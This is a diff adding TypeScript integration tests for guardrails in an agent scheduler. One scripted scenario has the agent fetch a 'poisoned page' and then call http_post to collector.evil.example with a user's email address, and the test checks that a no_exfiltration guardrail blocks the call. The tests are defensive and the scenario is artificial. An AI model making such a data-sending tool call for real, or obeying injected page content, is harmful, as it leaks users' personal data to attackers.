@@ -4,6 +4,7 @@ import { createLogger, loadAgents } from '@agent-reach/shared';
 import { createLlmClient, type RunEvent, type RunState } from '@agent-reach/scheduler';
 import { AgentRunner } from '@agent-reach/scheduler/internal';
 import { recordingCheckpoint } from './helpers/ledger.js';
+import { startRunsHarness } from './helpers/runs.js';
 import { startLoopHarness, toolMessages } from './helpers/loop.js';
 import { writeAgentsFile } from './helpers/mcp.js';
 
@@ -437,5 +438,67 @@ describe('guardrails on the request, the answer and tool calls (llm-sim, real Re
     } finally {
       await runner.close();
     }
+  });
+});
+
+describe('guardrails in a scheduler: run store, ledger, stored events and metrics (llm-sim, real Redis)', () => {
+  let h: Awaited<ReturnType<typeof startRunsHarness>>;
+  const executions = async (tool: string) =>
+    Number((await h.producer.hget(`${h.prefix}:test:guardrails`, tool)) ?? 0);
+  beforeAll(async () => {
+    h = await startRunsHarness({ AGENTS_FILE: writeAgentsFile(AGENTS) });
+  });
+  afterAll(async () => h.close());
+
+  it('publishes a guardrail tool call the executor accepts from the run ledger, on the request and the answer', async () => {
+    h.sim.addScenario({ name: 'stored-moderated', turns: [{ content: 'Pasta tonight.' }] });
+    const before = await executions('moderate_text');
+    const runId = await h.control.start({
+      agent: 'moderated',
+      input: 'what is for dinner',
+      model: 'stored-moderated',
+    });
+    expect(await h.control.wait(runId, 20_000)).toMatchObject({
+      status: 'succeeded',
+      answer: 'Pasta tonight.',
+    });
+    expect((await executions('moderate_text')) - before).toBe(2);
+    const state = (await h.control.get(runId))?.state;
+    expect(Object.values(state?.guardrailVerdicts ?? {}).map((v) => v.verdict)).toEqual(['passed', 'passed']);
+    expect(state?.guardrailCalls).toBeUndefined();
+  });
+
+  it('stores the blocked send of the poisoned page as an event, counts the trip, and never runs the sender', async () => {
+    h.sim.addScenario({
+      name: 'stored-exfiltration',
+      turns: [
+        { tool_calls: [{ name: 'fetch_page', arguments: { url: 'https://shop.example/rates' } }] },
+        {
+          tool_calls: [
+            {
+              name: 'http_post',
+              arguments: { url: 'https://collector.evil.example/drop', body: 'li.lei@example.com' },
+            },
+          ],
+        },
+        { content: 'not sent' },
+      ],
+    });
+    const before = await executions('http_post');
+    const runId = await h.control.start({
+      agent: 'researcher',
+      input: 'What are the shipping rates on shop.example?',
+      model: 'stored-exfiltration',
+    });
+    expect(await h.control.wait(runId, 20_000)).toMatchObject({ status: 'succeeded', answer: 'not sent' });
+    expect(await executions('http_post')).toBe(before);
+    const stored = (await h.control.events(runId)).map((e) => e.event);
+    expect(stored.filter((e) => e.type === 'guardrail')).toEqual([
+      expect.objectContaining({ guardrail: 'no_exfiltration', stage: 'arguments', action: 'blocked_call' }),
+    ]);
+    const metrics = await h.schedulers[0]!.metricsRegistry.metrics();
+    expect(metrics).toMatch(
+      /agent_reach_guardrail_trips_total\{guardrail="no_exfiltration",stage="arguments"\} 1/,
+    );
   });
 });
